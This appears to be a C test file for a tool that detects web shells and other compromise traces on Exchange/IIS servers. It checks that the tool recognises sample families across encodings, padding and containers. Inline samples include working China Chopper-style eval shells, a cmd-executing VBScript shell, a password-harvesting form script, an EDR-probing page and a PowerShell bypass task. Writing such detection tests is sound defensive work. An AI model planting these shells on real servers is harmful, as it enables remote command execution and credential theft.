/* Web shells by behaviour: every sample in tests/golden/webshells/<family>/
 * must be recognised by its content as that family, wherever it lies,
 * and so must its variants made here: UTF-16 LE and BE, padded past
 * hundreds of KB of junk, appended to a large page, inside a PST export
 * and a certificate request (ProxyShell drops), across a read-window
 * edge. Every file in clean/ must give no finding at all, as is and in
 * UTF-16. The samples are written for this project after the public
 * descriptions of each family (../shared/reference/host-hunting.md). */
#include "hunt/detect.h"
#include "hunt/script.h"
#include "hunt/screnc.h"
#include "check.h"
#include <dirent.h>
#include <fcntl.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

struct blob {
	unsigned char *p;
	size_t n;
};

static struct hunt h;

static void lower_copy(char *dst, const char *src, size_t cap)
{
	size_t k;

	for (k = 0; src[k] && k + 1 < cap; k++)
		dst[k] = (char)(src[k] >= 'A' && src[k] <= 'Z' ? src[k] + 32
		                                               : src[k]);
	dst[k] = '\0';
}

/* Runs the file checks on bytes as if they lay at rel; returns the
 * worst finding or NULL. */
static const struct finding *hunt_bytes(const char *rel, const void *p,
                                        size_t n)
{
	char lower[512];
	int fd = memfd_create("t", 0);
	const struct finding *worst = NULL;
	size_t i;

	if (fd < 0 || write(fd, p, n) != (ssize_t)n) {
		fprintf(stderr, "memfd failed\n");
		exit(1);
	}
	lseek(fd, 0, SEEK_SET);
	lower_copy(lower, rel, sizeof lower);
	hunt_release(&h);
	detect_file(&h, fd, rel, lower, n, 0);
	close(fd);
	for (i = 0; i < h.nf; i++)
		if (!worst || h.f[i].sev > worst->sev)
			worst = &h.f[i];
	return worst;
}

static struct blob utf16(const struct blob *b, bool be)
{
	struct blob o = {malloc(2 * b->n + 2), 2 * b->n + 2};
	size_t i;

	o.p[0] = be ? 0xfe : 0xff;
	o.p[1] = be ? 0xff : 0xfe;
	for (i = 0; i < b->n; i++) {
		o.p[2 + 2 * i + (be ? 1 : 0)] = b->p[i];
		o.p[2 + 2 * i + (be ? 0 : 1)] = 0;
	}
	return o;
}

/* head + b + tail, where head is `pad` bytes of ordinary HTML. */
static struct blob padded(const struct blob *b, const char *prefix,
                          size_t pad, size_t tail)
{
	static const char junk[] = "<p class=\"x\">Lorem ipsum dolor sit amet, "
	                           "consectetur adipiscing elit.</p>\r\n";
	size_t pl = strlen(prefix), total = pl + pad + b->n + tail, i;
	struct blob o = {malloc(total), total};

	memcpy(o.p, prefix, pl);
	for (i = 0; i < pad; i++)
		o.p[pl + i] = (unsigned char)junk[i % (sizeof junk - 1)];
	memcpy(o.p + pl + pad, b->p, b->n);
	for (i = 0; i < tail; i++)
		o.p[pl + pad + b->n + i] =
		    (unsigned char)junk[i % (sizeof junk - 1)];
	return o;
}

/* A binary container: magic, pseudo-random bytes, the text, more. */
static struct blob container(const struct blob *b, const unsigned char *magic,
                             size_t ml)
{
	size_t total = ml + 4096 + b->n + 4096, i;
	struct blob o = {malloc(total), total};
	uint32_t x = 2463534242u;

	memcpy(o.p, magic, ml);
	for (i = ml; i < total; i++) {
		x ^= x << 13;
		x ^= x >> 17;
		x ^= x << 5;
		o.p[i] = (unsigned char)(x & 0xff);
	}
	memcpy(o.p + ml + 4096, b->p, b->n);
	return o;
}

static bool read_all(const char *path, struct blob *b)
{
	FILE *f = fopen(path, "rb");
	long n;

	if (!f)
		return false;
	fseek(f, 0, SEEK_END);
	n = ftell(f);
	fseek(f, 0, SEEK_SET);
	b->p = malloc((size_t)n + 1);
	b->n = fread(b->p, 1, (size_t)n, f) == (size_t)n ? (size_t)n : 0;
	fclose(f);
	return b->n > 0;
}

static void expect_family(const char *what, const char *rel,
                          const struct blob *b, const char *family,
                          const char *chain)
{
	const struct finding *f = hunt_bytes(rel, b->p, b->n);
	char tag[64];

	snprintf(tag, sizeof tag, "[%s]", family);
	check_count++;
	if (!f || strcmp(f->kind, "webshell") != 0 || !f->backdoor ||
	    !strstr(f->detail, tag) || (chain && strcmp(f->chain, chain))) {
		check_failures++;
		fprintf(stderr, "%s: want %s%s%s, got %s: %s (chain '%s')\n",
		        what, tag, chain ? " chain " : "", chain ? chain : "",
		        f ? f->kind : "nothing", f ? f->detail : "",
		        f ? f->chain : "");
	}
}

static void expect_clean(const char *what, const char *rel,
                         const struct blob *b)
{
	const struct finding *f = hunt_bytes(rel, b->p, b->n);

	check_count++;
	if (f && f->sev > SEV_INFO) {
		check_failures++;
		fprintf(stderr, "%s: want no finding, got %s: %s\n", what,
		        f->kind, f->detail);
	}
}

/* The same file in another site's folder: a lead (file-access,
 * medium), not a back door. */
static void file_access_elsewhere(const char *name, const struct blob *b)
{
	char rel[512];
	const struct finding *f;

	snprintf(rel, sizeof rel, "inetpub/sites/intranet/scripts/%s", name);
	f = hunt_bytes(rel, b->p, b->n);
	check_count++;
	if (!f || strcmp(f->kind, "file-access") != 0 || f->sev != SEV_MEDIUM ||
	    f->backdoor) {
		check_failures++;
		fprintf(stderr,
		        "fileaccess/%s elsewhere: want file-access "
		        "(medium), got %s: %s\n",
		        name, f ? f->kind : "nothing", f ? f->detail : "");
	}
}

static void one_sample(const char *family, const char *name,
                       const struct blob *b)
{
	char rel[512], what[600];
	struct blob v;
	bool clean = strcmp(family, "clean") == 0;
	bool config = strstr(name, ".config") != NULL, whole;

	/* Off the known drop folders: only content can tell. Browser script
	 * (.js) is read where IIS serves Exchange's sign-in pages. One call
	 * reading what the request names is a back door in the drop
	 * folders, a lead elsewhere (file_access_elsewhere). */
	if (strcmp(family, "fileaccess") == 0)
		snprintf(rel, sizeof rel,
		         "inetpub/wwwroot/aspnet_client/system_web/%s", name);
	else if (strstr(name, ".js"))
		snprintf(rel, sizeof rel,
		         "Program Files/Microsoft/Exchange Server/V15/FrontEnd/"
		         "HttpProxy/owa/auth/15.2.1118/scripts/premium/%s",
		         name);
	else
		snprintf(rel, sizeof rel, "inetpub/sites/intranet/scripts/%s",
		         name);
	snprintf(what, sizeof what, "%s/%s", family, name);
	if (clean) {
		expect_clean(what, rel, b);
		v = utf16(b, false);
		snprintf(what, sizeof what, "%s/%s (UTF-16LE)", family, name);
		expect_clean(what, rel, &v);
		free(v.p);
		return;
	}
	expect_family(what, rel, b, family, NULL);
	if (strcmp(family, "fileaccess") == 0)
		file_access_elsewhere(name, b);
	v = utf16(b, false);
	snprintf(what, sizeof what, "%s/%s (UTF-16LE)", family, name);
	expect_family(what, rel, &v, family, NULL);
	free(v.p);
	v = utf16(b, true);
	snprintf(what, sizeof what, "%s/%s (UTF-16BE)", family, name);
	expect_family(what, rel, &v, family, NULL);
	free(v.p);
	if (config)
		return; /* a config padded is no longer a config document */
	whole = strstr(name, ".ashx") || strstr(name, ".svc") ||
	        strstr(name, ".asmx") || strstr(name, ".cs") ||
	        strstr(name, ".vb");
	v = padded(b, "", 600 * 1024, 0);
	snprintf(what, sizeof what, "%s/%s (after 600 KB of junk)", family,
	         name);
	expect_family(what, rel, &v, family, NULL);
	free(v.p);
	if (whole)
		return; /* a handler's code inside a page would not run */
	if (strstr(name, ".stm") || strstr(name, ".shtm"))
		goto containers; /* nor an include directive in ASP.NET's */
	v = padded(b,
	           "<%@ Page language=\"c#\" AutoEventWireup=\"false\" "
	           "Inherits=\"Microsoft.Exchange.HttpProxy.Logon\" %>\r\n",
	           300 * 1024, 2048);
	snprintf(what, sizeof what, "%s/%s (in a large shipped page)", family,
	         name);
	snprintf(rel, sizeof rel,
	         "Program Files/Microsoft/Exchange Server/V15/FrontEnd/"
	         "HttpProxy/owa/auth/logon.aspx");
	expect_family(what, rel, &v, family, NULL);
	free(v.p);
containers:
	snprintf(rel, sizeof rel, "inetpub/sites/intranet/scripts/%s", name);
	if (strcmp(family, "chopper") == 0 || strcmp(family, "command") == 0) {
		static const unsigned char pst[] = "!BDN\x01\x00\x00\x00";
		static const unsigned char der[] = "\x30\x82\x03\x1a";
		v = container(b, pst, 8);
		snprintf(what, sizeof what, "%s/%s (in a PST export)", family,
		         name);
		expect_family(what, rel, &v, family, "proxyshell");
		free(v.p);
		v = container(b, der, 4);
		snprintf(what, sizeof what, "%s/%s (in a DER request)", family,
		         name);
		expect_family(what, rel, &v, family, "proxyshell");
		free(v.p);
	}
}

/* A keylogger in browser script is a harvester in Exchange's sign-in
 * folders; in another site's page it is a lead (password-beacon,
 * medium), not a back door. */
static void beacon_elsewhere(void)
{
	static const char page[] =
	    "<html><body><form><input id=\"password\" type=\"password\">"
	    "</form><script>function go(){var p=document.getElementById("
	    "\"password\").value;var x=new XMLHttpRequest();x.open(\"POST\","
	    "\"https://sso.example.net/api/login\");x.send(\"p=\"+p);}"
	    "</script></body></html>";
	const struct finding *f = hunt_bytes(
	    "inetpub/sites/intranet/login.aspx", page, sizeof page - 1);

	CHECK(f && strcmp(f->kind, "password-beacon") == 0 &&
	      f->sev == SEV_MEDIUM && !f->backdoor);
	f = hunt_bytes("Program Files/Microsoft/Exchange Server/V15/FrontEnd/"
	               "HttpProxy/owa/auth/logon.aspx",
	               page, sizeof page - 1);
	CHECK(f && strcmp(f->kind, "webshell") == 0 && f->backdoor &&
	      strstr(f->detail, "[harvester]"));
}

/* Server script encoded by the Script Encoder is decoded and judged: a
 * shell so hidden is a back door wherever it is, and says it was
 * decoded; a harmless encoded page gives nothing in another site but is
 * a lead (encoded-page, high) where attackers drop files. */
static void encoded_decoded(void)
{
	static const char shell[] =
	    "Set s = Server.CreateObject(\"WScript.Shell\")\r\n"
	    "Response.Write s.Exec(\"cmd /c \" & Request(\"x\"))"
	    ".StdOut.ReadAll()\r\n";
	static const char counter[] =
	    "Application.Lock\r\nApplication(\"hits\") = "
	    "Application(\"hits\") + 1\r\nApplication.Unlock\r\n"
	    "Response.Write Application(\"hits\")\r\n";
	char enc[600], page[700];
	const struct finding *f;
	size_t m, i;
	int k;

	m = screnc_encode((const uint8_t *)shell, sizeof shell - 1, enc,
	                  sizeof enc);
	k = snprintf(page, sizeof page,
	             "<%%@ LANGUAGE = VBScript.Encode %%>\r\n<%%%.*s%%>\r\n",
	             (int)m, enc);
	f = hunt_bytes("inetpub/sites/intranet/report.asp", page, (size_t)k);
	CHECK(f && strcmp(f->kind, "webshell") == 0 && f->backdoor &&
	      strstr(f->detail, "[command]") &&
	      strstr(f->detail, "Script Encoder, decoded here"));
	m = screnc_encode((const uint8_t *)counter, sizeof counter - 1, enc,
	                  sizeof enc);
	k = snprintf(page, sizeof page,
	             "<%%@ LANGUAGE = VBScript.Encode %%>\r\n<p>Visitor "
	             "<%%%.*s%%></p>\r\n",
	             (int)m, enc);
	f = hunt_bytes("inetpub/sites/intranet/counter.asp", page, (size_t)k);
	CHECK(!f);
	f = hunt_bytes("inetpub/wwwroot/aspnet_client/system_web/counter.asp",
	               page, (size_t)k);
	for (i = 0; i < h.nf && strcmp(h.f[i].kind, "encoded-page"); i++)
		;
	CHECK(i < h.nf && h.f[i].sev == SEV_HIGH && !h.f[i].backdoor &&
	      strstr(h.f[i].detail, "decoded here"));
	for (i = 0; i < h.nf; i++)
		CHECK(strcmp(h.f[i].kind, "webshell") != 0);
}

/* Server script whose encoded block does not decode (its checksum is
 * wrong) is not read: a lead, high where attackers drop files or in
 * Exchange's folders, medium in another site; client script encoded the
 * same way is not server code. */
static void encoded_script(void)
{
	static const char page[] =
	    "<%@ LANGUAGE = VBScript.Encode %>\r\n<html><body>\r\n"
	    "<%#@~^CAAAAA==@#@&0;DVWE~rW~v1N@#@&ZgIAAA==^#~@%>\r\n"
	    "</body></html>\r\n";
	static const char client[] =
	    "<html><body><script language=\"JScript.Encode\">"
	    "#@~^CAAAAA==@#@&0;DVWE~rW~v1N@#@&ZgIAAA==^#~@</script>"
	    "</body></html>";
	const struct finding *f = hunt_bytes(
	    "inetpub/sites/intranet/report.asp", page, sizeof page - 1);
	size_t i;

	CHECK(f && strcmp(f->kind, "encoded-page") == 0 &&
	      f->sev == SEV_MEDIUM && !f->backdoor);
	f = hunt_bytes("Program Files/Microsoft/Exchange Server/V15/FrontEnd/"
	               "HttpProxy/owa/auth/report.asp",
	               page, sizeof page - 1);
	for (i = 0; i < h.nf && strcmp(h.f[i].kind, "encoded-page"); i++)
		;
	CHECK(i < h.nf && h.f[i].sev == SEV_HIGH);
	f = hunt_bytes("inetpub/sites/intranet/menu.htm.asp", client,
	               sizeof client - 1);
	CHECK(!f || strcmp(f->kind, "encoded-page") != 0);
}

/* A page that looks for security products' programs (SecChecker): a
 * lead, high in the drop folders; a page naming one program is not. */
static void edr_probe(void)
{
	static const char page[] =
	    "<%@ Page Language=\"C#\" %><% string r = \"\"; "
	    "if (System.IO.File.Exists(@\"C:\\Program Files (x86)\\FireEye\\"
	    "xagt\\xagt.exe\")) r += \"FE \"; "
	    "if (System.IO.File.Exists(@\"C:\\Program Files\\CrowdStrike\\"
	    "CSFalconService.exe\")) r += \"CS \"; Response.Write(r); %>";
	static const char one[] =
	    "<%@ Page Language=\"C#\" %><% if (System.Diagnostics.Process."
	    "GetProcessesByName(\"MsMpEng\").Length > 0) Response.Write("
	    "\"Defender running (MsMpEng.exe)\"); %>";
	const struct finding *f = hunt_bytes(
	    "inetpub/wwwroot/aspnet_client/system_web/check.aspx", page,
	    sizeof page - 1);
	size_t i;

	CHECK(f && strcmp(f->kind, "edr-probe") == 0 && f->sev == SEV_HIGH &&
	      !f->backdoor);
	(void)hunt_bytes("inetpub/sites/intranet/status.aspx", page,
	                 sizeof page - 1);
	for (i = 0; i < h.nf && strcmp(h.f[i].kind, "edr-probe"); i++)
		;
	CHECK(i < h.nf && h.f[i].sev == SEV_MEDIUM);
	f = hunt_bytes("inetpub/sites/intranet/av.aspx", one, sizeof one - 1);
	CHECK(!f || strcmp(f->kind, "edr-probe") != 0);
}

/* A Windows Error Report (UTF-16) of ECP's worker crashing: an attempt
 * on CVE-2021-26857; a report of another process is nothing. */
static void wer_reports(void)
{
	static const char ecp[] =
	    "Version=1\r\nEventType=APPCRASH\r\n"
	    "AppPath=C:\\Windows\\System32\\inetsrv\\"
	    "w3wp.exe\r\nNsAppName=w3wp#MSExchangeECPAppPool"
	    "\r\n";
	static const char other[] = "Version=1\r\nEventType=APPCRASH\r\n"
	                            "NsAppName=notepad.exe\r\n";
	struct blob b = {(unsigned char *)ecp, sizeof ecp - 1}, v;
	const char *rel = "ProgramData/Microsoft/Windows/WER/ReportArchive/"
	                  "AppCrash_w3wp.exe_1/Report.wer";
	const struct finding *f;

	v = utf16(&b, false);
	f = hunt_bytes(rel, v.p, v.n);
	CHECK(f && strcmp(f->kind, "wer-ecp-crash") == 0 &&
	      f->cve == HC_26857 && f->level == HL_ATTEMPTED);
	free(v.p);
	b = (struct blob){(unsigned char *)other, sizeof other - 1};
	v = utf16(&b, false);
	CHECK(hunt_bytes(rel, v.p, v.n) == NULL);
	free(v.p);
}

/* A scheduled task's definition on disk (UTF-16 XML): one running
 * PowerShell on a script in ProgramData is a way back in; Windows' own
 * and an administrator's program are not. */
static void task_files(void)
{
	static const char odd[] =
	    "<?xml version=\"1.0\" encoding=\"UTF-16\"?><Task xmlns=\"http://"
	    "schemas.microsoft.com/windows/2004/02/mit/task\"><Actions><Exec>"
	    "<Command>powershell.exe</Command><Arguments>-ep bypass -f "
	    "C:\\ProgramData\\u.ps1</Arguments></Exec></Actions></Task>";
	static const char own[] =
	    "<?xml version=\"1.0\" encoding=\"UTF-16\"?><Task xmlns=\"http://"
	    "schemas.microsoft.com/windows/2004/02/mit/task\"><Actions><Exec>"
	    "<Command>%systemroot%\\system32\\cscript.exe</Command><Arguments>"
	    "/B /nologo %systemroot%\\system32\\calluxxprovider.vbs $(Arg0)"
	    "</Arguments></Exec></Actions></Task>";
	struct blob b = {(unsigned char *)odd, sizeof odd - 1}, v;
	const struct finding *f;

	v = utf16(&b, false);
	f = hunt_bytes("Windows/System32/Tasks/Updater", v.p, v.n);
	CHECK(f && strcmp(f->kind, "task-file") == 0 && f->sev == SEV_HIGH &&
	      strstr(f->detail, "powershell.exe"));
	free(v.p);
	b = (struct blob){(unsigned char *)own, sizeof own - 1};
	v = utf16(&b, false);
	CHECK(hunt_bytes("Windows/System32/Tasks/Microsoft/Windows/Server "
	                 "Manager/CleanupOldPerfLogs",
	                 v.p, v.n) == NULL);
	free(v.p);
	/* a shell hidden in the task folder is no task: read as any file */
	{
		static const char shell[] =
		    "<%@ Page Language=\"Jscript\"%><%"
		    "eval(Request.Item[\"z\"],\"unsafe\");"
		    "%>";
		f = hunt_bytes("Windows/System32/Tasks/health.aspx", shell,
		               sizeof shell - 1);
		CHECK(f && strcmp(f->kind, "webshell") == 0);
	}
}

int main(void)
{
	static const char *const families[] = {
	    "chopper",  "command",     "loader",    "compiler",   "xsl",
	    "tunnel",   "filemanager", "uploader",  "config",     "oabdump",
	    "database", "shellcode",   "harvester", "fileaccess", "keythief",
	    "clean",    NULL};
	char dir[1024], path[2048];
	int k, samples = 0;

	memset(&h, 0, sizeof h);
	if (detect_files_init(&h, getenv("EXHUNT_DATA"))) {
		fprintf(stderr, "rules did not compile\n");
		return 1;
	}
	beacon_elsewhere();
	encoded_script();
	encoded_decoded();
	edr_probe();
	wer_reports();
	task_files();
	for (k = 0; families[k]; k++) {
		DIR *d;
		struct dirent *de;
		snprintf(dir, sizeof dir, "%s/tests/golden/webshells/%s",
		         EXHUNT_SOURCE, families[k]);
		d = opendir(dir);
		if (!d) {
			fprintf(stderr, "%s: missing\n", dir);
			return 1;
		}
		while ((de = readdir(d))) {
			struct blob b;
			if (de->d_name[0] == '.')
				continue;
			snprintf(path, sizeof path, "%s/%s", dir, de->d_name);
			if (!read_all(path, &b))
				continue;
			one_sample(families[k], de->d_name, &b);
			samples++;
			free(b.p);
		}
		closedir(d);
	}
	/* A shell across the edge of the first 8 MiB read window. */
	{
		struct blob b = {(unsigned char *)"<%@ Page Language=\"Jscript\"%>"
		                                  "<%eval(Request.Item[\"q\"],"
		                                  "\"unsafe\");%>",
		                 0};
		struct blob v;
		b.n = strlen((const char *)b.p);
		v = padded(&b, "", (8u << 20) - 20, 100);
		expect_family("chopper across the window edge",
		              "inetpub/wwwroot/big.aspx", &v, "chopper", NULL);
		free(v.p);
	}
	detect_files_release(&h);
	hunt_release(&h);
	CHECK(samples >= 40);
	return check_done();
}
